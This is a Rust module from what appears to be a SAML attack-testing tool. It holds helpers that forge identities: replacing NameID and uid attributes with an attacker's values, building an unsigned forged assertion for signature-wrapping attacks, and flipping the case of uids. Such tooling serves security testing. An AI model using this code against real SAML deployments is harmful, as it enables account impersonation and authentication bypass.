//! The forged identity of the attacks: an evil NameID and uid in a spec or in an
//! assertion element, a forged unsigned assertion, and the uid case flip.

use super::{
    attribute_values_mut, set_name_id, shape, AttackContext, AttackError, Victim, EVIL_ID_PREFIX,
};
use crate::spec::{assertion_xml, ResponseSpec};
use crate::style::ENTRA_OBJECT_ID;
use crate::xml::{self, Element, NS_ASSERTION};

/// Each letter in the other case; other characters as they are.
pub(super) fn flip_case(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for c in value.chars() {
        match c.is_lowercase() {
            true => out.extend(c.to_uppercase()),
            false => out.extend(c.to_lowercase()),
        }
    }
    out
}

/// An unsigned assertion with the forged identity and the id `_evil<genuine id>`, parsed
/// inside a wrapper that declares what the Response declares (the plain style's `saml:`
/// prefix); also the wrapper, whose namespaces the assertion's serialisation needs.
pub(super) fn forged_assertion(
    spec: &ResponseSpec,
    ctx: &AttackContext<'_>,
    attack: &'static str,
) -> Result<(Element, Element), AttackError> {
    let mut evil_spec = spec.clone();
    evil_spec.assertion_id = format!("{EVIL_ID_PREFIX}{}", spec.assertion_id);
    make_spec_evil(&mut evil_spec, ctx.uid_attribute, ctx.forged_identity());
    let wrapper = format!(
        "<w xmlns:saml=\"{NS_ASSERTION}\">{}</w>",
        assertion_xml(&evil_spec, None)
    );
    let rewrite = |source| AttackError::Rewrite { attack, source };
    let wrapper = xml::parse(&wrapper).map_err(rewrite)?;
    let evil = wrapper
        .elements()
        .next()
        .cloned()
        .ok_or_else(|| shape(attack, "forged assertion did not parse"))?;
    Ok((evil, wrapper))
}

/// The evil identity in a spec: NameID and every uid-bearing attribute.
pub(super) fn make_spec_evil(spec: &mut ResponseSpec, uid: &str, evil: Victim<'_>) {
    spec.name_id = evil.name_id.to_owned();
    for a in spec.attributes.iter_mut() {
        if a.name == uid || a.name == ENTRA_OBJECT_ID {
            a.values = vec![evil.uid.to_owned()];
        }
    }
}

/// The evil identity in an Assertion element.
pub(super) fn make_assertion_evil(assertion: &mut Element, uid: &str, evil: Victim<'_>) {
    set_name_id(assertion, evil.name_id);
    for name in [uid, ENTRA_OBJECT_ID] {
        for v in attribute_values_mut(assertion, name) {
            v.set_text(evil.uid);
        }
    }
}
